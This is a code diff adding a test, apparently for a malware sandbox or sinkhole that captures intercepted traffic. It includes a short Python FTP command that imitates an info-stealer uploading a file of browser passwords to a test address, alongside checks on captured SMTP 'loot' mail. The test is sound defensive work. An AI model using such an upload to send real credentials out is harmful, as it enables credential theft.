@@ -297,6 +297,22 @@ print('sent')
       assert.deepEqual(sessions.log().sessions.slice(4).map(({ address, port, protocol, smtp, decrypted }) => ({ address, port, protocol, user: smtp?.auth?.user, subject: smtp?.subject, decrypted: decrypted !== undefined })),
         [{ address: '198.18.0.1', port: 465, protocol: 'smtp', user: 'logs@mail.example.test', subject: 'loot', decrypted: true }]);
       assert.match(rules, /tcp dport 465 dnat to 192\.0\.2\.53:465\n/, rules);
+      // an FTP upload as a stealer makes it: the login and the file name are kept by the FTP
+      // listener; the passive data connection comes back to the catch-all with the file's bytes
+      const ftp = await execFileAsync('ip', ['netns', 'exec', ns, 'python3', '-c', `
+import ftplib, io
+f = ftplib.FTP('198.18.0.1', 'ops@example.test', 'Hunter2!', timeout=10)
+print(f.storbinary('STOR PW_devbox.txt', io.BytesIO(b'chrome: admin / letmein\\n')))
+f.quit()
+`], { encoding: 'utf8', timeout: 20_000 });
+      assert.equal(ftp.stdout.trim(), '226 Transfer complete', ftp.stderr);
+      for (let i = 0; i < 50 && sessions.log().sessions.length < 7; i++) await new Promise((r) => setTimeout(r, 100));
+      const ftpSessions = sessions.log().sessions.slice(5);
+      const control = ftpSessions.find((x) => x.protocol === 'ftp');
+      assert.deepEqual(control && [control.address, control.port, control.ftp], ['198.18.0.1', 21, { user: 'ops@example.test', password: 'Hunter2!', files: [{ command: 'STOR', path: 'PW_devbox.txt' }], uploads: 1, downloads: 0 }], JSON.stringify(ftpSessions));
+      const data = ftpSessions.find((x) => x.protocol === 'other');
+      assert.deepEqual(data && [data.address, data.preview], ['198.18.0.1', 'chrome: admin / letmein\\n'], JSON.stringify(ftpSessions));
+      assert.ok(data?.port !== null && data!.port! >= 30000 && data!.port! < 40000, 'the data connection is listed with the port the passive reply named');
       // busybox's resolver, asked for the mail exchanger of a name, is given the name itself
       const mx = await execFileAsync('ip', ['netns', 'exec', ns, 'busybox', 'nslookup', '-type=mx', 'shop.example.test', DNS_SERVER], { encoding: 'utf8', timeout: 20_000 });
       assert.match(mx.stdout, /shop\.example\.test\s+mail exchanger = 10 shop\.example\.test/, mx.stdout + mx.stderr);
